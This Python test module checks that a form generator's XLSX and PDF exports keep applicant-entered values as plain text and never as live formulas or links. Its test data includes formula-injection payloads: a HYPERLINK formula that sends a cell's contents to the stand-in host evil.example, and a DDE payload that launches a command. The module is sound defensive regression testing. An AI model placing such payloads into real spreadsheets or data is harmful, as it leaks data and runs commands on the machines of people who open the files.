"""Values that a spreadsheet program would take for a formula, and how a test finds one in a workbook.

Issue 17 item 1: an applicant's unit name ``=HYPERLINK(...)`` became a live formula in a
bureau's table. Every XLSX formgen writes is checked with these: its sheets' XML holds no
``<f>`` where data went, and each value reads back as the text that was typed.
"""

from __future__ import annotations

import copy
import re
import zipfile
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from pypdf import PdfReader

from tests.conftest import example_data
from tests.reading import pdf_text, squeeze
from tests.workflows.submitters import code

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
CALC = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, CALC, "+1+2", "-3-4", "@SUM(A1:A9)", "\t=1+1", "\r=2+2")
"""The issue's two payloads and a value starting with each of ``+ - @``, a tab and a CR."""
CITY = "sichuan-2023-110.city"
DISTRICT = "chongqing-2023-1.district"


def formulas(xlsx: Path) -> list[str]:
    """Every ``<f>`` element of every worksheet of `xlsx`, as written."""
    found: list[str] = []
    with zipfile.ZipFile(xlsx) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>|<f/>", package.read(name).decode("utf-8"))
    return found


def texts(xlsx: Path) -> dict[str, Any]:
    """Every value of the first sheet by coordinate, with the type the file gives it (`str` for text)."""
    sheet = load_workbook(xlsx).worksheets[0]
    return {
        cell.coordinate: cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None
    }


def assert_typed(xlsx: Path, expected: list[str]) -> None:
    """`xlsx` holds no formula, and each of `expected` as one string cell, exactly as typed."""
    assert formulas(xlsx) == [], f"{xlsx.name} holds formulas"
    sheet = load_workbook(xlsx).worksheets[0]
    strings = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s" and c.value]
    for text in expected:
        assert text in strings, f"{text!r} is not a text cell of {xlsx.name}"


EXPECTED = tuple(p.strip() for p in PAYLOADS)
"""The payloads as the model keeps them: a text field trims white space at its ends, so the
tab and CR cases arrive as ``=1+1`` and ``=2+2`` — still what a spreadsheet would evaluate."""


def city(count: int = len(PAYLOADS)) -> dict[str, Any]:
    """The Sichuan city's example with the first `count` payloads as its providers' and enterprises'
    unit names, and the second provider's 服务能力自评 starting with `CALC`."""
    data = example_data(CITY)
    provider, enterprise = data["providers"][0], data["enterprises"][0]
    data["providers"], data["enterprises"] = [], []
    for n, payload in enumerate(PAYLOADS[:count]):
        one = copy.deepcopy(provider)
        one["profile"].update(unit_name=payload, credit_code=code(n))
        data["providers"].append(one)
        other = copy.deepcopy(enterprise)
        other.update(unit_name=payload, credit_code=code(100 + n))
        data["enterprises"].append(other)
    if count > 1:
        data["providers"][1]["self_assessment"] = f"{CALC}。{provider['self_assessment']}"
    return data


def district(count: int = len(PAYLOADS)) -> dict[str, Any]:
    """The Chongqing district's example with the first `count` payloads as its applicants' unit names."""
    data = example_data(DISTRICT)
    applicant = data["applicants"][0]
    data["applicants"] = []
    for n, payload in enumerate(PAYLOADS[:count]):
        one = copy.deepcopy(applicant)
        one["unit"].update(unit_name=payload, code=code(200 + n))
        data["applicants"].append(one)
    return data


def assert_prints_as_typed(pdf: Path, expected: list[str]) -> None:
    """The PDF prints each of `expected` as text and links nowhere (no ``/URI`` annotation)."""
    printed = squeeze(pdf_text(pdf))
    for text in expected:
        assert squeeze(text) in printed, f"{text!r} is not printed in {pdf.name}"
    assert "Err:" not in printed and "#NAME?" not in printed
    for page in PdfReader(pdf).pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            assert "/URI" not in action, f"{pdf.name} links to {action.get('/URI')}"
